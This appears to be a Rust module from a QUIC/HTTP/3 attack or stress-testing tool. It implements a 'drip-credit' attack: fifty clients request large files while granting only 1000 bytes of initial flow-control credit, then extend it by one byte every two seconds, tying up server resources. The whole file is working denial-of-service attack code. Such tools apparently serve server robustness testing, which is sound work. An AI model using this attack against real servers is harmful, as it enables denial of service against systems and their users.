//! Flow control credit of one byte at a time.

use courser_wire::{Frame, MaxData, MaxStreamData, TransportParameters};

use crate::attack::{LARGE, Plan, Victim};
use crate::hooks::Hooks;
use crate::http::{self, Method};

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "drip-credit",
    labels: &["A24", "A88"],
    summary: "requests for large files with one byte of credit every two seconds",
    victim: Victim::Server,
    make: || Box::new(drip_credit()),
};

fn drip_credit() -> Crowd {
    Crowd::of_clients(50, |connection, progress, _| {
        for id in progress.requests(connection, 100 - progress.streams.min(100)) {
            let request = http::request(Method::Get, LARGE);
            connection.push_bytes(http::stream(id, 0, &request, true));
        }
        progress.offset += 1;
        let limit = START + progress.offset;
        connection.push(&Frame::MaxData(MaxData { limit }));
        let id = http::request_stream(0);
        connection.push(&Frame::MaxStreamData(MaxStreamData { id, limit }));
    })
    .with_hooks(|| Box::new(DripCredit))
    .with_pause(std::time::Duration::from_secs(2))
}

/// The initial credit: enough for SETTINGS and the header section of a response.
const START: u64 = 1000;

struct DripCredit;

impl Hooks for DripCredit {
    fn edit_parameters(&mut self, parameters: &mut TransportParameters) {
        parameters.initial_max_data = START;
        parameters.initial_max_stream_data_bidi_local = START;
    }
}
